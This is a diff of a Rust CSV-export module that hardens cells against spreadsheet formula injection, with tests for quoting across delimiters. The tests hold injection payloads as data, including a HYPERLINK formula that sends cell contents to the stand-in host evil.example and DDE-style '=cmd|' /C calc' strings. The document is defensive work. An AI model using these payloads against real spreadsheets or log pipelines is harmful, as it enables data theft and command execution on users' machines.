@@ -1,8 +1,11 @@
 //! Exports of selected events: CSV of their [`Row`]s and NDJSON of their original JSON.
 //!
-//! CSV follows RFC 4180 (CRLF line ends; a cell holding `"`, `,`, CR or LF is quoted, its quotes
-//! doubled). Log fields are attacker-controlled, so a cell a spreadsheet would read as a formula
-//! (starting with `=`, `+`, `-`, `@`, tab or CR) gets a leading `'`.
+//! CSV follows RFC 4180 (CRLF line ends, quotes doubled inside a quoted cell). Log fields are
+//! attacker-controlled, and a spreadsheet may split on another delimiter than `,` (its locale's
+//! `;`, a tab, `|`) or take `'` as a quote, so a cell holding any of these, `"`, CR or LF is
+//! quoted: a reader of any of these delimiters keeps it one cell and cannot start a new cell
+//! inside it. A cell a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, their
+//! full-width forms, tab, CR, LF or NUL; OWASP's list) gets a leading `'` and is quoted too.
 //!
 //! ```
 //! use authtrail_core::export::{csv_header, csv_cell};
@@ -20,27 +23,33 @@ pub fn csv_header() -> &'static str {
     "time,source,kind,outcome,action,user,actor,ip,method,country\r\n"
 }
 
-/// Appends one cell: neutralised against formula injection, quoted when RFC 4180 requires it.
+/// Characters a spreadsheet reads as the start of a formula when a cell starts with one.
+const FORMULA_START: [char; 12] = [
+    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\t', '\r', '\n', '\0',
+];
+
+/// Delimiters and quotes of the CSV readers of common locales, and line ends.
+const QUOTED: [char; 8] = [',', ';', '\t', '|', '"', '\'', '\r', '\n'];
+
+/// Appends one cell: neutralised against formula injection, quoted when it holds a delimiter, a
+/// quote or a line end of any common CSV dialect.
 pub fn csv_cell(out: &mut String, value: &str) {
-    let formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    let quote = value.contains(['"', ',', '\r', '\n']);
-    if quote {
-        out.push('"');
+    let formula = value.starts_with(FORMULA_START);
+    if !formula && !value.contains(QUOTED) {
+        out.push_str(value);
+        return;
     }
+    out.push('"');
     if formula {
         out.push('\'');
     }
-    if quote {
-        for c in value.chars() {
-            if c == '"' {
-                out.push('"');
-            }
-            out.push(c);
+    for c in value.chars() {
+        if c == '"' {
+            out.push('"');
         }
-        out.push('"');
-    } else {
-        out.push_str(value);
+        out.push(c);
     }
+    out.push('"');
 }
 
 /// Appends one CRLF-terminated line per row (time as ISO-8601 UTC with milliseconds).
@@ -78,30 +87,79 @@ mod tests {
     }
 
     #[test]
-    fn formula_cells_are_neutralised() {
-        assert_eq!(cell("+1"), "'+1");
-        assert_eq!(cell("-2"), "'-2");
-        assert_eq!(cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
-        assert_eq!(cell("=1+1"), "'=1+1");
-        assert_eq!(cell("\tx"), "'\tx");
+    fn formula_cells_are_neutralised_and_quoted() {
+        assert_eq!(cell("+1"), "\"'+1\"");
+        assert_eq!(cell("-2"), "\"'-2\"");
+        assert_eq!(cell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
+        assert_eq!(cell("=1+1"), "\"'=1+1\"");
+        assert_eq!(cell("\tx"), "\"'\tx\"");
+        assert_eq!(cell("\r=1"), "\"'\r=1\"");
+        assert_eq!(cell("\n=1"), "\"'\n=1\"");
+        assert_eq!(cell("\0=1"), "\"'\0=1\"");
+        // Full-width forms, which some locales' spreadsheets read as formulas.
+        assert_eq!(cell("\u{ff1d}1+1"), "\"'\u{ff1d}1+1\"");
+        assert_eq!(cell("\u{ff20}SUM(A1)"), "\"'\u{ff20}SUM(A1)\"");
         assert_eq!(
             cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
             "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
         );
-        assert_eq!(cell("\r=1"), "\"'\r=1\"");
         // Only the first character counts.
         assert_eq!(cell("a=b"), "a=b");
         assert_eq!(cell("203.0.113.7"), "203.0.113.7");
     }
 
     #[test]
-    fn quotes_commas_and_newlines_are_quoted() {
+    fn delimiters_quotes_and_line_ends_are_quoted() {
         assert_eq!(cell("plain"), "plain");
         assert_eq!(cell(""), "");
         assert_eq!(cell("a,b"), "\"a,b\"");
         assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(cell("two\nlines"), "\"two\nlines\"");
         assert_eq!(cell("cr\rlf\r\n"), "\"cr\rlf\r\n\"");
+        assert_eq!(cell("a|b"), "\"a|b\"");
+        assert_eq!(cell("a\tb"), "\"a\tb\"");
+        assert_eq!(cell("O'Brien"), "\"O'Brien\"");
+    }
+
+    /// `x;=cmd` was written bare, so a reader splitting on `;` (the delimiter of locales whose
+    /// decimal separator is a comma) got a cell `=cmd` and ran it; the same with a tab or `|`.
+    #[test]
+    fn csv_cell_with_semicolon_or_tab_is_quoted_so_no_formula_starts_after_it() {
+        for (value, written) in [
+            ("x;=cmd", "\"x;=cmd\""),
+            ("x\t=cmd", "\"x\t=cmd\""),
+            ("x|=cmd", "\"x|=cmd\""),
+            ("x;@SUM(1+1);-2", "\"x;@SUM(1+1);-2\""),
+        ] {
+            assert_eq!(cell(value), written);
+            // Read back by an RFC 4180 reader splitting on each delimiter, the cell is whole.
+            for delimiter in [',', ';', '\t', '|'] {
+                assert_eq!(
+                    read_cells(&cell(value), delimiter),
+                    [value],
+                    "{value:?} split on {delimiter:?}"
+                );
+            }
+        }
+    }
+
+    /// The cells of one CSV line as an RFC 4180 reader splitting on `delimiter` gives them.
+    fn read_cells(line: &str, delimiter: char) -> Vec<String> {
+        let mut cells = vec![String::new()];
+        let mut quoted = false;
+        let mut chars = line.chars().peekable();
+        while let Some(c) = chars.next() {
+            match c {
+                '"' if quoted && chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cells.last_mut().unwrap().push('"');
+                }
+                '"' => quoted = !quoted,
+                c if c == delimiter && !quoted => cells.push(String::new()),
+                c => cells.last_mut().unwrap().push(c),
+            }
+        }
+        cells
     }
 
     #[test]
@@ -125,7 +183,7 @@ mod tests {
             out,
             "time,source,kind,outcome,action,user,actor,ip,method,country\r\n\
              2019-11-27T00:03:01.800Z,Activity Tracker,login,failure,iam-identity.user-apikey.login,\
-             '=cmd|' /C calc'!A0,\"a,\"\"b\"\"\",203.0.113.7,'-,\"multi\nline\"\r\n"
+             \"'=cmd|' /C calc'!A0\",\"a,\"\"b\"\"\",203.0.113.7,\"'-\",\"multi\nline\"\r\n"
         );
     }
 
